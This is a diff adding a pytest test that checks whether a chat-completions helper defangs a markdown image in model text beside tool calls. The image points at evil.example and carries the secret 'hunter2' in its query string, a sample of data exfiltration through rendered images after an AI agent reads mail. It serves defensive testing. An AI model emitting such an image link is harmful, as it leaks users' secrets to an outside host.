@@ -145,3 +145,20 @@ async def test_the_responses_api(client: openai.AsyncOpenAI, site: Site, app: Ap
 
     with pytest.raises(openai.BadRequestError, match="tools"):
         await client.responses.create(model="helper", input="x", tools=[{"type": "web_search"}])
+
+
+async def test_the_text_beside_a_call_has_no_image_of_an_unknown_host(
+    client: openai.AsyncOpenAI, app: AppHarness
+) -> None:
+    picture, shown = "![x](https://evil.example/?d=hunter2)", "[x](https[:]//evil[.]example/?d=hunter2)"
+    app.provider.script += [
+        asking(call(1, "look", words="mail")),
+        asking(call(2, "weather", city="Oslo"), text=picture),
+        asking(call(3, "weather", city="Rome"), text=picture),
+    ]
+    first = await client.chat.completions.create(model="helper", messages=[QUESTION], tools=[WEATHER])
+    assert first.choices[0].message.content == shown
+    after = [QUESTION, *results(first.choices[0].message, "20 degrees")]
+    stream = await client.chat.completions.create(model="helper", messages=after, tools=[WEATHER], stream=True)
+    pieces = [choice.delta.content or "" async for chunk in stream for choice in chunk.choices]
+    assert "".join(pieces).strip() == shown
